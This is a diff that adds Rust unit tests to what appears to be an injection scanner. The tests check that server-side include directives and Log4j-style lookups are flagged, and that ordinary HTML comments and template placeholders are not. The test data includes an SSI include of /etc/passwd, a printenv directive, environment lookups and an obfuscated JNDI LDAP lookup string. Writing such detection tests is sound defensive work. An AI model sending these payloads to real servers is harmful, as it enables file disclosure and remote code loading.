@@ -474,3 +474,41 @@ fn rules_template_arithmetic_read_past_blanks_quotes_and_other_syntaxes() {
         assert!(scan(v, Field::Value).score(Class::Generic) < 5, "{v}");
     }
 }
+
+#[test]
+fn rules_server_side_include_directives_detected() {
+    for v in [
+        r#"<!--#include virtual="/etc/passwd"-->"#,
+        r#"<!--#echo var="DOCUMENT_ROOT"-->"#,
+        "<!--#printenv -->",
+        r#"<!--#config errmsg="x"-->"#,
+        r#"<!--#set var="a" value="b"-->"#,
+    ] {
+        assert!(scan(v, Field::Value).score(Class::Generic) >= 5, "{v}");
+    }
+    // an HTML comment is no directive
+    for v in [
+        "<!-- comment --> in html",
+        "<!-- #include is an SSI tag -->",
+    ] {
+        assert_eq!(scan(v, Field::Value).score(Class::Generic), 0, "{v}");
+    }
+}
+
+#[test]
+fn rules_template_placeholders_are_no_log4j_lookups() {
+    for v in [
+        "Dear ${customer}, thank you for order #${orderId}.",
+        "${first_name} ${last_name}",
+        "${order.id} shipped to ${address.city}",
+    ] {
+        assert_eq!(scan(v, Field::Value).score(Class::Java), 0, "{v}");
+    }
+    for v in [
+        "${env:USER}${env:HOME}",
+        "${${lower:j}ndi:ldap://x/a}",
+        "${a:-b}${c:-d}",
+    ] {
+        assert!(scan(v, Field::Value).score(Class::Java) >= 5, "{v}");
+    }
+}
